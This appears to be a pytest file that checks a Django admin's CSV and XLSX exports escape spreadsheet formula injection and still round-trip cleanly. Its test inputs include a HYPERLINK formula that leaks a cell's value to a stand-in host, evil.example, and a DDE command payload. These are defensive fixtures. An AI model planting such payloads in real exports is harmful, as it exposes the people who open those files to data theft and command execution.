"""Exports run nothing on anybody's desk, and come back as they went."""

import csv
from io import BytesIO, StringIO

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from bookings.tests.factories import BookingFactory
from events.tests.factories import EventFactory
from ticketing.tests.factories import OfferFactory, PromoCodeFactory
from venues.models import Venue
from venues.neutral import neutralise, restore

from .factories import SeatFactory, VenueFactory
from .importing import check, counts_of, errors_of

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "=cmd|' /C calc'!A0",
    "  =1+1",
    "＝1+1",
    "'=1+1",
]


@pytest.fixture
def bewitched(db) -> list[Venue]:
    return [VenueFactory(name=name, address=name, capacity=50) for name in FORMULAS]


@pytest.mark.parametrize("text", [*FORMULAS, "''=1", "Opera", "O'Neill", "'tis a hall", ""])
def test_restore_undoes_neutralise(text):
    assert restore(neutralise(text)) == text


@pytest.mark.parametrize("text", FORMULAS)
def test_neutralise_puts_an_apostrophe_before_formulas(text):
    assert neutralise(text) == f"'{text}"


def export(client, name: str) -> bytes:
    return client.get(reverse(f"admin:{name}")).content


def cells_of(data: bytes) -> list[tuple]:
    """Read a workbook as a spreadsheet would: cells with their types."""
    return list(load_workbook(BytesIO(data)).active.iter_rows(min_row=2))


def test_csv_has_no_formula(admin_client, bewitched):
    data = export(admin_client, "venues_venue_export")

    rows = list(csv.DictReader(StringIO(data.decode(), newline="")))
    assert sorted(row["name"] for row in rows) == sorted(f"'{name}" for name in FORMULAS)
    assert {row["capacity"] for row in rows} == {"50"}


def test_xlsx_has_no_formula_and_keeps_numbers(admin_client, bewitched):
    data = export(admin_client, "venues_venue_export_xlsx")

    rows = cells_of(data)
    assert [cell for row in rows for cell in row if cell.data_type == "f"] == []
    assert {row[6].data_type for row in rows} == {"n"}
    assert {row[6].value for row in rows} == {50}
    names = sorted(row[1].value.replace("_x000D_", "\r") for row in rows)
    assert names == sorted(f"'{name}" for name in FORMULAS)


def test_openpyxl_would_have_made_formulas_of_them():
    """The control: without the apostrophe, a workbook runs them."""
    assert Workbook().active.cell(1, 1, FORMULAS[0]).data_type == "f"


@pytest.mark.parametrize("kind", ["venues_venue_export", "venues_venue_export_xlsx"])
def test_an_export_can_be_imported_and_changes_nothing(admin_client, bewitched, kind):
    job = check("venues", export(admin_client, kind))

    assert errors_of(job) == []
    assert counts_of(job) == (0, 0, len(FORMULAS))


def test_xlsx_is_filtered_like_the_list(admin_client):
    VenueFactory(city="Graz")
    VenueFactory(city="Linz")

    response = admin_client.get(reverse("admin:venues_venue_export_xlsx"), {"city": "Graz"})

    assert [row[4].value for row in cells_of(response.content)] == ["Graz"]
    assert response["Content-Disposition"].endswith('.xlsx"')


@pytest.mark.parametrize("rows", [1, 30])
@pytest.mark.parametrize(
    ("name", "make", "queries"),
    [
        ("venues_venue", VenueFactory.create_batch, 3),
        ("venues_seat", SeatFactory.create_batch, 5),
        ("events_event", EventFactory.create_batch, 5),
        ("ticketing_offer", OfferFactory.create_batch, 7),
        ("ticketing_promocode", PromoCodeFactory.create_batch, 6),
        ("bookings_booking", BookingFactory.create_batch, 5),
    ],
)
def test_exports_cost_the_same_for_any_number_of_rows(
    admin_client, django_assert_num_queries, name, make, queries, rows
):
    make(rows)

    # Two for who is asking; some for the filters, which the export obeys.
    with django_assert_num_queries(queries):
        response = admin_client.get(reverse(f"admin:{name}_export_xlsx"))

    assert response.status_code == 200
